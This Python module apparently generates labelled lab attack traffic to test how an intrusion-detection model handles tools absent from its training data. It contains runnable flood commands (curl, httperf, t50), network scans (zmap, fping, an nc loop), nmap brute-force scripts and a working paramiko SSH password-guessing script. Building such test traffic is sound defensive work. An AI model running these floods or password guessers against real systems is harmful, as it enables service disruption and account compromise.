"""Floods, scans and guessing by tools that no training row has: what a model does with them says how it generalises."""

import subprocess

from ..content import WORDS
from ..plan import Activity
from ..servers import USERS
from ..truth import Match
from . import between
from .attack_flood import answers_s, dos
from .attack_guess import PORTS
from .attack_scan import scan, whole

PARAMIKO = """
import paramiko, sys, time
host, user, listing, pause = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4])
for word in open(listing).read().split():
    client = paramiko.SSHClient()
    client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    try:
        client.connect(host, username=user, password=word, timeout=6, allow_agent=False, look_for_keys=False)
    except Exception:
        pass
    client.close()
    time.sleep(pause)
"""


def curl_flood(plan, attacker, victim, count, at_once, fresh):
    """An HTTP flood by one curl: many requests side by side, over kept connections or new ones."""
    def body(stage):
        stage.run("curl", "-s", "-Z", "--parallel-max", at_once, "-m", "10", *(["-H", "Connection: close"] if fresh else []), "-o", "/dev/null",
                  f"http://{stage.ip(victim)}/healthz?[1-{count}]")
    return dos(plan, f"curl flood x{at_once}", "curl-flood", attacker, victim, 80, body)


def httperf(plan, attacker, victim, rate, count, calls):
    """Connections at a steady rate, some requests each."""
    def body(stage):
        stage.run("httperf", "--hog", "--server", stage.ip(victim), "--port", 80, "--uri", "/index.html", "--rate", rate, "--num-conns", count,
                  "--num-calls", calls, "--timeout", 5)
    return dos(plan, f"httperf {rate}/s x{calls}", "httperf", attacker, victim, 80, body)


def t50(plan, attacker, victim, port, count):
    """A SYN flood from random sources by t50."""
    def body(stage):
        stage.run("t50", stage.ip(victim), "--protocol", "TCP", "-S", "--dport", port, "--threshold", count)
    match = Match(dst=plan.ip(victim), dst_port=str(port), protocol="tcp")
    spare = [Match(src=host.nat or host.ip, dst=plan.ip(victim), protocol="tcp") for host in plan.hosts if host.name != victim and host.name not in plan.attackers]
    return Activity(f"t50 {attacker}->{victim}:{port}", "t50", "dos", attacker, [match], body, linger_s=answers_s(plan.host(victim)), spare=spare)


def zmap(plan, attacker, network, port, rate):
    """One port over a network, by a stack of its own."""
    def body(stage):
        stage.run("zmap", "-q", "-i", "eth0", "-G", stage.router_mac(), "-S", stage.ip(attacker), "-p", port, "-r", rate, "-b", "/dev/null",
                  "-c", 2, "-o", "/dev/null", "--disable-syslog", network)
    return Activity(f"zmap {port} at {rate}/s {attacker}->{network}", "zmap", "scan", attacker, whole(plan, attacker, network), body, linger_s=3.0)


def fping(plan, attacker, network):
    """Echo requests over a whole network."""
    def body(stage):
        stage.run("fping", "-q", "-a", "-r", "0", "-i", "10", "-g", network)
    return Activity(f"fping {attacker}->{network}", "fping", "scan", attacker, whole(plan, attacker, network), body, linger_s=3.0)


def knocks(plan, attacker, target, ports, pause_s):
    """nc in a loop, port after port."""
    def body(stage):
        line = f"for p in {' '.join(map(str, ports))}; do nc -z -w 1 $1 $p; sleep {pause_s}; done"
        stage.run("sh", "-c", line, "knocks", stage.ip(target))
    return scan(plan, f"nc over {len(ports)} ports", "nc-scan", attacker, [target], body)


def nmap_brute(plan, attacker, server, service, guesses):
    """nmap's guessing scripts."""
    def body(stage):
        words = write_words(stage, guesses)
        users = f"{stage.scratch}/users"
        with open(users, "w") as file:
            file.write("\n".join(stage.rng.sample(sorted(USERS), 2)) + "\n")
        stage.run("nmap", "-n", "-Pn", "-p", PORTS[service], "--script", f"{service}-brute", "--script-args",
                  f"userdb={users},passdb={words},brute.firstonly=false,brute.threads=4", stage.ip(server), stdin=subprocess.DEVNULL)
    return Activity(f"nmap {service}-brute {attacker}->{server}", "nmap-brute", "bruteforce", attacker,
                    [between(plan, attacker, server, PORTS[service])], body, linger_s=5.0)


def paramiko(plan, attacker, server, guesses, pause_s):
    """A guessing script on a library of its own."""
    def body(stage):
        stage.run("/usr/bin/python3", "-c", PARAMIKO, stage.ip(server), stage.rng.choice(sorted(USERS)), write_words(stage, guesses), pause_s)
    return Activity(f"paramiko {attacker}->{server}", "paramiko", "bruteforce", attacker, [between(plan, attacker, server, 22)], body, linger_s=5.0)


def write_words(stage, count):
    """A list of passwords, none of them right."""
    path = f"{stage.scratch}/guesses"
    with open(path, "w") as file:
        file.write("\n".join(stage.rng.choice(WORDS) + str(stage.rng.randint(0, 9999)) for _ in range(count)) + "\n")
    return path


def draw_dos(rng, plan, attacker, victim, port):
    """A flood and its seconds."""
    return rng.choice([
        lambda: (14, curl_flood(plan, attacker, "www", rng.choice([400, 1500]), rng.choice([5, 20, 50]), rng.random() < 0.7)),
        lambda: (14, httperf(plan, attacker, "www", rng.choice([30, 100, 300]), rng.choice([300, 900]), rng.choice([1, 1, 5]))),
        lambda: (14, t50(plan, attacker, victim, port, rng.choice([800, 2000]))),
    ])()


def draw_scan(rng, plan, attacker, targets, network):
    """A scan and its seconds."""
    return rng.choice([
        lambda: (20, zmap(plan, attacker, network, rng.choice([22, 80, 443, 445, 3389]), rng.choice([50, 200, 1000]))),
        lambda: (15, fping(plan, attacker, network)),
        lambda: (40, knocks(plan, attacker, rng.choice(targets), sorted(rng.sample(range(1, 9000), rng.choice([20, 60, 150])) + [22, 80]), rng.choice([0, 0.05, 0.4]))),
    ])()


def draw_guess(rng, plan, attacker, server):
    """Guessing and its seconds."""
    return rng.choice([
        lambda: (50, nmap_brute(plan, attacker, server, rng.choice(["ssh", "ftp"]), rng.choice([10, 30]))),
        lambda: (60, paramiko(plan, attacker, server, rng.choice([20, 60]), rng.choice([0, 0.5, 2]))),
    ])()
